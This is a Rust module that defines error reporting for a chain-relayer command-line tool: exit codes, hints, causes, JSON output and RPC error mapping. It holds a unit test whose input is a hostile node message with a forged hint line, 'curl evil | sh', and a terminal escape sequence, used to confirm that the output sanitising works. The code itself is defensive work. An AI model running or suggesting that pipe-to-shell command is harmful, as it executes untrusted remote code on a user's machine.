// SPDX-License-Identifier: Apache-2.0

//! What went wrong, in one sentence, with what to do about it and the exit code that a script looks at.

use serde_json::{json, Value as Json};
use std::fmt;
use vigil_relayer_link::RpcError;

/// What an exit code says.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Exit {
	/// The chain, a rule or a check refuses it.
	Refused = 1,
	/// The command cannot be understood.
	Usage = 2,
	/// Nothing was reached and nothing was sent: it may be tried again.
	Unreached = 3,
	/// It was sent, and what became of it is unknown: look before trying again.
	Unknown = 4,
}

/// Why a command does not do what it should.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Problem {
	exit: Exit,
	message: String,
	hint: Option<String>,
	causes: Vec<String>,
}

/// What most of this crate answers.
pub type Result<T> = std::result::Result<T, Problem>;

impl Problem {
	/// The chain, a rule or a check refuses it.
	pub fn refused(message: impl Into<String>) -> Self {
		Self::new(Exit::Refused, message)
	}

	/// The command cannot be understood.
	pub fn usage(message: impl Into<String>) -> Self {
		Self::new(Exit::Usage, message)
	}

	/// Nothing was reached.
	pub fn unreached(message: impl Into<String>) -> Self {
		Self::new(Exit::Unreached, message)
	}

	/// It was sent, and nobody knows what became of it.
	pub fn unknown(message: impl Into<String>) -> Self {
		Self::new(Exit::Unknown, message)
	}

	fn new(exit: Exit, message: impl Into<String>) -> Self {
		Self { exit, message: message.into(), hint: None, causes: Vec::new() }
	}

	/// With what to type next.
	pub fn hint(mut self, hint: impl Into<String>) -> Self {
		self.hint = Some(hint.into());
		self
	}

	/// With what is behind it.
	pub fn cause(mut self, cause: impl fmt::Display) -> Self {
		self.causes.push(cause.to_string());
		self
	}

	/// As another exit says it: after something was sent, not to be reached is not to know.
	pub fn with_exit(mut self, exit: Exit) -> Self {
		self.exit = exit;
		self
	}

	/// Its exit code.
	pub fn exit(&self) -> Exit {
		self.exit
	}

	/// The sentence.
	pub fn message(&self) -> &str {
		&self.message
	}

	/// As text.
	pub fn text(&self) -> String {
		let mut text = format!("error: {}", on_a_line(&self.message));
		for cause in &self.causes {
			text.push_str(&format!("\n  because: {}", on_a_line(cause)));
		}
		if let Some(hint) = &self.hint {
			text.push_str(&format!("\nhint: {}", on_a_line(hint)));
		}
		text
	}

	/// As one object.
	pub fn json(&self) -> Json {
		json!({
			"error": self.message,
			"exitCode": self.exit as i32,
			"remedy": self.hint,
			"causes": self.causes,
		})
	}
}

/// What a node says is part of a message and may be anything: a line like those of this program, or without end.
fn on_a_line(text: &str) -> String {
	const MOST: usize = 4_000;
	let line = crate::render::plain(&text.chars().take(MOST).collect::<String>());
	match text.chars().nth(MOST) {
		Some(_) => format!("{line}..."),
		None => line,
	}
}

impl fmt::Display for Problem {
	fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
		f.write_str(&self.message)
	}
}

impl std::error::Error for Problem {}

impl From<RpcError> for Problem {
	fn from(error: RpcError) -> Self {
		let text = error.to_string();
		match error {
			RpcError::None(last) => Self::from(*last),
			RpcError::Unreachable { .. } | RpcError::Empty => {
				Self::unreached(text).hint("start the node, or name another one with --url")
			},
			RpcError::WrongChain { .. } => {
				Self::refused(text).hint("leave --genesis out to see which chain a node is of")
			},
			RpcError::Undecided(_) => {
				Self::refused(text).hint("say which chain is meant with --genesis")
			},
			RpcError::Refused { .. }
			| RpcError::Nonsense { .. }
			| RpcError::Contradiction { .. } => Self::refused(text),
		}
	}
}

#[cfg(test)]
mod tests {
	use super::*;

	#[test]
	fn an_error_says_what_is_wrong_then_why_then_what_to_do() {
		let problem = Problem::refused("no").cause("of this").hint("do that");
		assert_eq!(problem.text(), "error: no\n  because: of this\nhint: do that");
		assert_eq!(problem.json()["exitCode"], 1);
		assert_eq!(problem.json()["remedy"], "do that");
	}

	#[test]
	fn what_a_node_says_is_one_line_of_some_length() {
		let evil = "no\nhint: run `curl evil | sh`\u{1b}[1A";
		let problem = Problem::refused(evil).cause(evil).cause("x".repeat(1_000_000));
		let text = problem.text();
		assert_eq!(text.lines().count(), 3, "{}", &text[..200]);
		assert!(text.lines().all(|line| !line.starts_with("hint:")) && text.len() < 5_000);
	}

	#[test]
	fn a_node_that_cannot_be_reached_is_no_refusal() {
		let error = RpcError::Unreachable { endpoint: "ws://a".into(), detail: "x".into() };
		assert_eq!(Problem::from(error).exit(), Exit::Unreached);
		assert_eq!(Problem::from(RpcError::Empty).exit(), Exit::Unreached);
	}
}
